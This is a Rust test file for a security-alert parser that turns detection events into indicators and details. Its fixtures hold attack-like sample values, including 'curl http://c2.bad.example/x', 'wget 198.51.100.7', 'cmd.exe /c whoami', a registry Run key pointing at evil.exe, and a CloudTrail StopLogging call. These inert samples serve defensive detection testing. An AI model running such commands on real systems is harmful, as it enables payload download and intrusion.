//! Tests fields of evidences, observables, malware and vulnerabilities.

use super::*;
use insta::assert_snapshot;

/// Returns a detection about `host-1` with one evidence.
fn evidence(evidence: Value) -> Alert {
    one_of(&with(
        json!({"device": null, "evidences": [evidence], "resources": [{"uid": "host-1"}]}),
    ))
}

#[test]
fn ends_of_a_connection_tell_ports_places_and_networks() {
    let alert = evidence(
        json!({"connection_info": {"direction_id": 1, "protocol_name": "tcp"},
        "src_endpoint": {"ip": "198.51.100.23", "port": 53211, "location": {"country": "NL", "city": "Amsterdam"},
            "autonomous_system": {"number": 64500, "name": "Example Hosting"}, "intermediate_ips": ["203.0.113.5"]},
        "dst_endpoint": {"ip": "10.0.0.7", "port": 22, "vpc_uid": "vpc-1", "subnet_uid": "subnet-1"}}),
    );
    assert_snapshot!(indicators(&alert), @"
    related ip 10.0.0.7
    actor ip 198.51.100.23
    actor ip 203.0.113.5
    ");
    assert_snapshot!(details(&alert), @"
    local_port 22 (10.0.0.7)
    remote_port 53211 (198.51.100.23)
    protocol tcp
    direction inbound
    country NL (198.51.100.23)
    city Amsterdam (198.51.100.23)
    asn AS64500 (198.51.100.23)
    organisation Example Hosting (198.51.100.23)
    vpc vpc-1 (10.0.0.7)
    subnet subnet-1 (10.0.0.7)
    ");
    let out = evidence(json!({"connection_info": {"direction_id": 2},
        "src_endpoint": {"ip": "10.0.0.7", "port": 53211}, "dst_endpoint": {"ip": "198.51.100.23", "port": 3333}}));
    assert_eq!(
        out.details_of(DetailKind::RemotePort).collect::<Vec<_>>(),
        ["3333"]
    );
    assert_eq!(
        out.details_of(DetailKind::LocalPort).collect::<Vec<_>>(),
        ["53211"]
    );
}

#[test]
fn processes_tell_command_lines_parents_and_files() {
    let alert = evidence(
        json!({"process": {"name": "curl", "path": "/usr/bin/curl", "cmd_line": "curl http://c2.bad.example/x",
        "user": {"name": "www-data"},
        "parent_process": {"name": "sh", "cmd_line": "sh -c run", "file": {"path": "/bin/sh", "hashes": [{"value": "ab".repeat(32)}]}}},
        "script": {"hashes": [{"value": "cd".repeat(32)}], "script_content": {"value": "wget 198.51.100.7"}},
        "job": {"name": "updater", "cmd_line": "/tmp/u"}, "win_service": {"name": "svc-x"},
        "reg_key": {"path": "HKLM\\Run"}, "reg_value": {"path": "HKLM\\Run", "name": "x", "data": "evil.exe"}}),
    );
    assert_snapshot!(indicators(&alert), @"
    related ip 198.51.100.7
    related url http://c2.bad.example/x
    related hash abababababababababababababababababababababababababababababababab
    related hash cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd
    related principal www-data
    related process curl
    related process sh
    related file /bin/sh
    related file /usr/bin/curl
    ");
    assert_snapshot!(details(&alert), @r"
    command_line /tmp/u
    command_line curl http://c2.bad.example/x (curl)
    command_line wget 198.51.100.7
    process_user www-data (curl)
    parent_process sh (curl)
    parent_command_line sh -c run (curl)
    registry_key HKLM\Run
    registry_key HKLM\Run\x = evil.exe
    persistence svc-x
    persistence updater
    ");
}

#[test]
fn requests_tell_hosts_and_clients() {
    let alert = evidence(
        json!({"http_request": {"http_method": "POST", "user_agent": "kali-tools/1.0",
            "url": {"url_string": "https://c2.bad.example/gate?id=1", "hostname": "c2.bad.example", "path": "/gate", "query_string": "id=1"},
            "x_forwarded_for": ["203.0.113.9"]},
        "tls": {"sni": "tls.bad.example"}, "url": {"hostname": "only-host.bad.example"},
        "query": {"hostname": "dns.bad.example"}, "answers": [{"rdata": "198.51.100.9"}]}),
    );
    assert_snapshot!(indicators(&alert), @"
    related ip 198.51.100.9
    actor ip 203.0.113.9
    remote domain c2.bad.example
    remote domain dns.bad.example
    remote domain only-host.bad.example
    remote domain tls.bad.example
    remote url https://c2.bad.example/gate?id=1
    ");
    assert_snapshot!(details(&alert), @"
    user_agent kali-tools/1.0
    http_request POST /gate?id=1 (c2.bad.example)
    dns_query dns.bad.example
    ");
}

#[test]
fn host_that_is_asked_for_at_our_own_end_is_no_far_end() {
    let alert = evidence(
        json!({"connection_info": {"direction_id": 1}, "src_endpoint": {"ip": "198.51.100.9"},
        "dst_endpoint": {"ip": "10.0.0.7"}, "tls": {"sni": "shop.corp.example"},
        "http_request": {"url": {"hostname": "www.corp.example"}}}),
    );
    assert_eq!(alert.with_role(IndicatorRole::Remote).count(), 0);
    assert!(has(
        &alert,
        IndicatorKind::Domain,
        IndicatorRole::Related,
        "www.corp.example"
    ));
}

#[test]
fn actors_tell_keys_groups_sessions_and_applications() {
    let alert = evidence(
        json!({"actor": {"user": {"name": "svc-backup", "email_addr": "svc@corp.example",
            "groups": [{"name": "admins"}], "programmatic_credentials": [{"uid": "AKIAEXAMPLECASE00053"}]},
        "session": {"uid": "s-1", "issuer": "arn:aws:iam::444455556666:role/backup", "credential_uid": "ASIAEXAMPLECASE00053"},
        "app_name": "aws-cli", "invoked_by": "athena.amazonaws.com", "process": {"name": "aws", "cmd_line": "aws s3 ls"}},
        "api": {"operation": "StopLogging", "service": {"name": "cloudtrail.amazonaws.com"}, "response": {"error": "AccessDenied"}}}),
    );
    assert_snapshot!(indicators(&alert), @"
    actor domain athena.amazonaws.com
    related email svc@corp.example
    actor principal backup
    actor principal svc-backup
    actor principal svc@corp.example
    actor access_key AKIAEXAMPLECASE00053
    actor access_key ASIAEXAMPLECASE00053
    related arn arn:aws:iam::444455556666:role/backup
    related process aws
    ");
    assert_snapshot!(details(&alert), @"
    group admins (svc-backup)
    application athena.amazonaws.com (svc-backup)
    application aws-cli (svc-backup)
    operation cloudtrail.amazonaws.com StopLogging
    error_code AccessDenied (cloudtrail.amazonaws.com StopLogging)
    command_line aws s3 ls (aws)
    trait session s-1 (svc-backup)
    ");
}

#[test]
fn actor_without_a_name_is_known_by_address_or_id() {
    let actor = |user: Value| {
        let alert = evidence(json!({"actor": {"user": user}}));
        let mut actors = alert.with_role(IndicatorRole::Actor);
        actors.next().map(|one| one.value.clone())
    };
    assert_eq!(
        actor(json!({"uid": "u-1", "email_addr": "eve@corp.example"})).as_deref(),
        Some("eve@corp.example")
    );
    assert_eq!(actor(json!({"uid": "u-1"})).as_deref(), Some("u-1"));
}

#[test]
fn mails_tell_addresses_and_subject() {
    let alert = evidence(
        json!({"email": {"from": "CEO <boss@bad.example>", "to": ["alice@corp.example"], "subject": "Pay now",
        "urls": [{"url_string": "https://bad.example/login"}], "files": [{"name": "bill.zip"}], "x_originating_ip": ["198.51.100.9"]}}),
    );
    assert_snapshot!(indicators(&alert), @"
    related ip 198.51.100.9
    related url https://bad.example/login
    target email alice@corp.example
    related email boss@bad.example
    related file bill.zip
    ");
    assert_eq!(details(&alert), "mail_subject Pay now");
}

#[test]
fn data_stores_of_evidences_are_related() {
    let alert = evidence(
        json!({"databucket": {"name": "payroll", "uid": "arn:aws:s3:::payroll"}, "database": {"name": "people"},
        "container": {"name": "web", "image": {"name": "registry.example.com/web:1"}}, "file": {"path": "/etc/shadow"},
        "user": {"name": "bob"}, "resources": [{"uid": "arn:aws:iam::444455556666:role/ops", "type": "AwsIamRole", "role": "Actor"}]}),
    );
    assert_snapshot!(indicators(&alert), @"
    target principal bob
    actor principal ops
    related arn arn:aws:iam::444455556666:role/ops
    related arn arn:aws:s3:::payroll
    related bucket payroll
    related container web
    related image registry.example.com/web:1
    related database people
    related file /etc/shadow
    ");
}

#[test]
fn malware_vulnerabilities_and_intelligence_are_told() {
    let alert = one_of(&with(json!({"device": null, "evidences": [],
        "malware": [{"name": "EvilBot", "path": "/tmp/evil", "classifications": ["Trojan"], "cves": [{"uid": "CVE-2026-1111"}]}],
        "vulnerabilities": [{"cve": {"uid": "CVE-2026-2222", "epss": {"score": "0.97"}, "cvss": [{"base_score": 9.8}]},
            "affected_packages": [{"name": "openssl", "version": "3.0.1", "fixed_in_version": "3.0.8"}],
            "is_exploit_available": true, "is_fix_available": true, "remediation": {"desc": "Update openssl."}}],
        "osint": [{"type_id": 2, "value": "c2.bad.example", "vendor_name": "Example Intel", "campaign": {"name": "Night Owl"}}]})));
    assert_snapshot!(indicators(&alert), @"
    related domain c2.bad.example
    related file /tmp/evil
    related cve CVE-2026-1111
    related cve CVE-2026-2222
    ");
    assert_snapshot!(details(&alert), @"
    threat_list Example Intel (c2.bad.example)
    threat_name EvilBot
    threat_name Night Owl (c2.bad.example)
    package openssl 3.0.1 (CVE-2026-2222)
    fixed_version 3.0.8 (openssl)
    exposure CVSS 9.8 (CVE-2026-2222)
    exposure EPSS 0.97 (CVE-2026-2222)
    exposure a fix is available (CVE-2026-2222)
    exposure an exploit is available (CVE-2026-2222)
    trait Trojan (EvilBot)
    ");
    assert_eq!(alert.remediation.as_deref(), Some("Update openssl."));
}

#[test]
fn observables_tell_what_cannot_be_looked_up() {
    let seen = |id: u64, value: &str| json!({"name": "x", "type_id": id, "value": value});
    let alert = one_of(&with(
        json!({"device": null, "evidences": [], "observables": [
        seen(13, "curl http://c2.bad.example/x"), seen(16, "kali-tools/1.0"), seen(28, "HKLM\\Run"),
        {"name": "x", "type": "Command Line", "value": "whoami"}, seen(19, "AKIAEXAMPLECASE00053")]}),
    ));
    assert_snapshot!(indicators(&alert), @"
    related url http://c2.bad.example/x
    related access_key AKIAEXAMPLECASE00053
    ");
    assert_snapshot!(details(&alert), @r"
    user_agent kali-tools/1.0
    command_line curl http://c2.bad.example/x
    command_line whoami
    registry_key HKLM\Run
    ");
}

#[test]
fn findings_that_belong_together_name_each_other() {
    assert_eq!(
        details(&one_of(&incident())),
        "related_finding f-1\nrelated_finding f-2"
    );
}

#[test]
fn resource_is_told_by_its_whole_name_where_that_is_another_id() {
    let arn = "arn:aws:iam::111122223333:policy/service-role/Invoke_Sqs";
    let alert = one_of(&with(json!({"resources": [
        {"uid": "ANPAEXAMPLEEXAMPLE", "uid_alt": arn, "type": "AWS::IAM::Policy"}
    ]})));
    assert_eq!(alert.resources[0].id, arn);
    assert_eq!(alert.resources[0].short_id(), "Invoke_Sqs");
}

#[test]
fn process_of_the_actor_started_the_process() {
    let of = |class: u64, activity: u64, process: Value| {
        let launch =
            json!({"actor": {"process": {"name": "w3wp.exe", "pid": 7}}, "process": process});
        let mut event = json!({"class_uid": class, "activity_id": activity, "is_alert": true, "severity_id": 4,
            "time": 1_795_730_400_000_u64, "metadata": {"uid": "e-1", "product": {"name": "Field EDR"}},
            "finding_info": {"uid": "f-1", "title": "Child of a server"}});
        let map = event.as_object_mut().unwrap();
        if class == 2004 {
            map.insert("evidences".to_owned(), json!([launch]));
        } else {
            map.extend(launch.as_object().unwrap().clone());
        }
        let alert = one_of(&event);
        let parents = alert.details_of(DetailKind::ParentProcess);
        parents.map(str::to_owned).collect::<Vec<_>>()
    };
    let child = json!({"name": "cmd.exe", "cmd_line": "cmd.exe /c whoami"});
    assert_eq!(of(2004, 1, child.clone()), ["w3wp.exe"]);
    assert_eq!(of(1007, 1, child.clone()), ["w3wp.exe"]);
    // Ending or opening a process does not start it, and a process does not start itself.
    assert!(of(1007, 2, child).is_empty());
    assert!(of(2004, 1, json!({"name": "w3wp.exe", "pid": 7})).is_empty());
    let own = json!({"name": "cmd.exe", "parent_process": {"name": "explorer.exe"}});
    assert_eq!(of(2004, 1, own), ["explorer.exe"]);
}
